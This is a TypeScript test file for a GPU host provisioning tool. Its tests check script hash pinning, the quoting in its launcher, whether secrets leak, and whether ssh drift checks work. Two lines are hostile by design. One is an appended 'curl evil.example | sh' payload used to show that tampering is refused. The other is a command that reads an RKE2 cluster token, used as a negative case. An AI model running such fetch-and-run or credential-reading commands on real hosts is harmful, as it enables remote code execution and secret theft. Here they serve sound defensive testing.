/** The scripts' way to a host, really run: hashes, secrets, quoting, drift. The scripts themselves are run by scripts.bats. */
import { spawnSync } from "node:child_process";
import {
    appendFileSync,
    chmodSync,
    cpSync,
    mkdirSync,
    mkdtempSync,
    readFileSync,
    readdirSync,
    rmSync,
    writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { delimiter, join } from "node:path";
import fc from "fast-check";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { hostScript, launcher, readDrift, scriptFolder } from "../../../components/bare-metal";
import { launchedStep } from "../../../components/bare-metal/scripts";
import { hosts, key } from "./rack";

let folder = "";
beforeEach(() => {
    folder = mkdtempSync(join(tmpdir(), "kilogpu-scripts-"));
});
afterEach(() => {
    rmSync(folder, { recursive: true, force: true });
});

const NAMES = ["preflight", "tuning", "storage", "runtime", "join", "member"] as const;
const run = (command: string, input: string) => spawnSync("sh", ["-c", command], { input, encoding: "utf8" });

describe("hashes", () => {
    it("of the manifest are those of the scripts, and the folder holds no script beside them", () => {
        for (const name of NAMES) {
            expect(hostScript(name).sha256).toMatch(/^[0-9a-f]{64}$/);
        }
        const files = readdirSync(scriptFolder).filter((file) => file.endsWith(".sh"));
        expect(files.sort()).toEqual([...NAMES, "common"].map((name) => `${name}.sh`).sort());
    });

    it("refuse a script that was changed in the package", () => {
        cpSync(scriptFolder, folder, { recursive: true });
        expect(hostScript("tuning", folder).name).toBe("tuning");
        appendFileSync(join(folder, "tuning.sh"), "curl evil.example | sh\n");
        expect(() => hostScript("tuning", folder)).toThrow(/tuning\.sh is not the script of this release/);
    });

    it("refuse on the host what arrives changed or cut off, before anything of it runs", () => {
        const script = hostScript("runtime");
        const marker = join(folder, "ran");
        const command = launcher(script, "apply", { ROLE: "agent", ROOT: folder }, "root");
        for (const text of [`touch ${marker}\n${script.text}`, script.text.slice(0, -20), ""]) {
            const result = run(command, `\n${text}`);
            expect(result.status).toBe(9);
            expect(result.stderr).toContain("runtime arrived changed; refused");
        }
        expect(readdirSync(folder)).toEqual([]);
    });
});

describe("the launcher", () => {
    const probe = { name: "runtime" as const, text: "", sha256: "" };
    const script = (text: string) => {
        const sha256 = spawnSync("sha256sum", { input: text, encoding: "utf8" }).stdout.split(" ")[0] ?? "";
        return { ...probe, text, sha256 };
    };

    it("hands any value over as it is", () => {
        const echo = script('printf "%s" "$VALUE"\n');
        fc.assert(
            fc.property(fc.string({ unit: "grapheme-ascii", maxLength: 40 }), (value) => {
                expect(run(launcher(echo, "apply", { VALUE: value }, "root"), `\n${echo.text}`).stdout).toBe(value);
            }),
            { numRuns: 40 },
        );
    });

    it("can be read back from its command, whatever the values, and no other command can", () => {
        const value = fc.string({ unit: "grapheme", maxLength: 40 });
        fc.assert(
            fc.property(
                fc.dictionary(fc.stringMatching(/^[A-Z0-9_]{1,12}$/), value, { noNullPrototype: true }),
                fc.constantFrom("root", "ops"),
                fc.constantFrom("apply", "check", "reset"),
                (settings, user, mode) => {
                    expect(launchedStep(launcher(probe, mode, settings, user))).toEqual({
                        script: "runtime",
                        mode,
                        settings,
                    });
                },
            ),
        );
        expect(launchedStep("true")).toBeUndefined();
        expect(launchedStep("sudo -n cat /etc/rancher/rke2/token")).toBeUndefined();
    });

    it("gives the secret as a file that only its owner reads, in no argument and no variable, and removes it", () => {
        const look = script(
            'cat "$SECRET_FILE"; echo; stat -c %a "$SECRET_FILE"; echo "$SECRET_FILE"; ps -eo args; tr "\\0" "\\n" </proc/self/environ\n',
        );
        const result = run(launcher(look, "apply", {}, "root"), `K10planted-secret\n${look.text}`);
        const [secret, mode, file, ...rest] = result.stdout.split("\n");
        expect([secret, mode]).toEqual(["K10planted-secret", "600"]);
        expect(rest.join("\n")).not.toContain("planted-secret");
        expect(run(`test -e ${file ?? ""}`, "").status).toBe(1);
    });
});

describe("drift", () => {
    /** An `ssh` that runs the command here, checks what it was told of the host's key, and is down for one address. */
    const fakeSsh = (): void => {
        const bin = join(folder, "bin");
        mkdirSync(bin);
        writeFileSync(
            join(bin, "ssh"),
            [
                "#!/bin/bash",
                `printf '%s\\n' "$*" | head -n 1 >>${folder}/ssh-calls`,
                'for word in "$@"; do case $word in UserKnownHostsFile=*) cat "${word#*=}" >>' +
                    folder +
                    "/known;; root@*) host=${word#root@};; esac; done",
                '[ "$host" != 10.0.0.11 ] || { echo "ssh: connect to host 10.0.0.11 port 22: No route to host" >&2; exit 255; }',
                `ROOT=${folder}/$host; export ROOT; mkdir -p "$ROOT"`,
                'exec sh -c "${@: -1}"',
            ].join("\n"),
        );
        chmodSync(join(bin, "ssh"), 0o755);
        process.env["PATH"] = `${bin}${delimiter}${process.env["PATH"] ?? ""}`;
    };
    const path = process.env["PATH"];
    afterEach(() => {
        process.env["PATH"] = path;
    });

    it("is read from all hosts: as wanted, changed by hand, unreachable", () => {
        fakeSsh();
        const questions = hosts(3).map((host) => ({ host, step: "runtime" as const, settings: { ROLE: "agent" } }));
        const unit = join(folder, "10.0.0.10/etc/systemd/system/rke2-agent.service.d");
        mkdirSync(unit, { recursive: true });
        writeFileSync(join(unit, "90-kilogpu.conf"), "[Service]\nLimitMEMLOCK=infinity\nLimitNOFILE=1048576\n", {
            mode: 0o644,
        });
        chmodSync(join(unit, "90-kilogpu.conf"), 0o644);
        expect(readDrift(questions, {})).toEqual({
            "gpu-001/runtime": "",
            "gpu-002/runtime": "unreachable: ssh: connect to host 10.0.0.11 port 22: No route to host",
            "gpu-003/runtime": "differs: /etc/systemd/system/rke2-agent.service.d/90-kilogpu.conf",
        });
        const calls = readFileSync(join(folder, "ssh-calls"), "utf8");
        expect(calls).toContain("StrictHostKeyChecking=yes");
        expect(readFileSync(join(folder, "known"), "utf8")).toContain(`10.0.0.10 ${key(0)}`);
    });
});
